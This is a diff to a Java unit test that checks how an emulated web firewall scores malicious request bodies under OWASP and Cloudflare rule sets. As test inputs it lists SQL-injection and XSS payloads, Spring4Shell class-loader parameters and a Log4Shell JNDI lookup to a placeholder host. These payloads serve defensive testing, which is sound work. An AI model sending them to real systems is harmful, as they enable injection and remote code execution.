@@ -22,6 +22,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
 class BodyInspectionTest {
+    private static final String CLOUDFLARE = "efb7b8c949ac4650a09736fc376e9aee";
     private static final String OWASP = "4814384a9e5d4991b9815dcfc25d2f1f";
 
     private static InMemoryEdge blocking(String expression, String limit) {
@@ -82,6 +83,8 @@ class BodyInspectionTest {
             application/json                  | {"user": "' or '1'='1"}               | 403 block 949110
             application/json                  | {"user": "\\u0027 or \\u00271\\u0027=\\u00271"} | 403 block 949110
             application/vnd.api+json          | ["<script>alert(1)</script>"]         | 403 block 949110
+            application/json                  | {"\\u4e2d": "' or '1'='1"}          | 403 block 949110
+            application/json                  | {"city": "\\u6771\\u4eac \\ud83d\\ude00"} | 200
             text/plain; charset=utf-8         | <script>alert(1)</script>             | 403 block 949110
             application/xml                   | <a b="javascript:alert(1)"/>          | 403 block 949110
             multipart/form-data; boundary=x   | --x <script>alert(1)</script> --x--   | 403 block 949110
@@ -92,6 +95,18 @@ class BodyInspectionTest {
             """)
     void attacks_in_forms_json_and_text_score(String type, String body, String wanted) {
         assertThat(told(post(executing(OWASP, ""), type, body))).isEqualTo(wanted);
+    }
+
+    @ParameterizedTest(name = "{0}: {1}")
+    @CsvSource(delimiter = '|', textBlock = """
+            application/x-www-form-urlencoded | class.module.classLoader.x=1     | 403 block ec-spring4shell
+            application/json                  | {"class.module.classLoader.x":1} | 403 block ec-spring4shell
+            application/x-www-form-urlencoded | class.name=1                     | 200
+            application/x-www-form-urlencoded | a=${jndi:ldap://evil.test/a}     | 200
+            """)
+    void the_cloudflare_ruleset_looks_at_names_in_bodies_whatever_else_is_executed(
+            String type, String body, String wanted) {
+        assertThat(told(post(executing(CLOUDFLARE, ""), type, body))).isEqualTo(wanted);
     }
 
     @Test
